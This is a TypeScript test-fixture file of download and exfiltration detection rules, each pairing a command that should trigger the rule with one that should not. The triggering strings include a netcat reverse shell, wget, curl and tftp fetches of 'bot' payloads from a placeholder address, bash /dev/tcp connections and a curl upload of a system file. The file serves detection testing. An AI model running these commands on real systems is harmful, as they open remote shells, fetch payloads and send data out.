/** Rows of the rules about getting things onto the machine, and off it. */
import type { RuleRow } from './row.ts';

export const downloadRows: readonly RuleRow[] = [
  {
    rule: 'File transfer tool run',
    as: 'user',
    fires: `wget -q -T 1 -t 1 -O y http://192.0.2.77/y; curl -s -m 1 http://192.0.2.77/y; cp /bin/true tftp; ./tftp -g -r bot 192.0.2.77`,
    spares: `cat /usr/bin/wget > /dev/null; ls -l /usr/bin/curl`,
  },
  {
    rule: 'Network tool run',
    as: 'user',
    fires: `cp /bin/true nc; ./nc -e /bin/sh 192.0.2.77 4444`,
    spares: `cp /bin/true nice; ./nice`,
  },
  {
    rule: 'Download by an interpreter',
    as: 'user',
    fires: `perl -e '$u = "http://192.0.2.77/bot"; print length $u'`,
    spares: `perl -e 'print "no address here"'`,
  },
  {
    rule: 'Connection by a shell',
    as: 'user',
    fires: `timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/9'; timeout 1 bash -c 'echo > /dev/tcp/192.0.2.77/8080'`,
    spares: `to 127.0.0.1 9; echo /dev/tcp/192.0.2.77/8080`,
  },
  {
    rule: 'Request written by hand',
    as: 'user',
    fires: `say 18080 'GET /bot.sh HTTP/1.0'`,
    spares: `say 18081 'hello GET /bot.sh'; echo 'GET / HTTP/1.0' > request`,
  },
  {
    rule: 'Unnamed program with an address',
    as: 'user',
    fires: `cp /bin/true good; ./good http://192.0.2.77/bot`,
    spares: `echo http://192.0.2.77/bot; cp /bin/true good2; ./good2 bot`,
  },
  {
    rule: 'Program file written',
    as: 'user',
    fires: `cat /bin/true | cat > payload`,
    spares: `cat /etc/hostname > text; cp /bin/true copied`,
  },
  {
    rule: 'Archive unpacked in an odd place',
    as: 'user',
    fires: `echo 1 > kit; tar cf kit.tar kit; tar xf kit.tar`,
    spares: `echo 1 > kit2; tar cf kit2.tar kit2; tar -tf kit2.tar`,
  },
  {
    rule: 'Software installed',
    as: 'user',
    fires: `apt-get install -y masscan-nonexistent`,
    spares: `dpkg -l cron; apt-cache policy cron`,
  },
  {
    rule: 'Compiler run',
    as: 'user',
    fires: `cp /bin/true gcc; ./gcc -o x x.c`,
    spares: `cp /bin/true gc; ./gc x.c; ls gcc`,
  },
  {
    rule: 'Data sent out',
    as: 'user',
    fires: `curl -s -m 1 -F file=@/etc/hostname http://192.0.2.77/`,
    spares: `curl -s -m 1 -o out http://192.0.2.77/`,
  },
  {
    rule: 'Public drop point used',
    as: 'user',
    fires: `cp /bin/true wget; ./wget -qO- https://pastebin.com/raw/abc`,
    spares: `cp /bin/true wget; ./wget -qO- https://192.0.2.77/raw/abc`,
  },
];
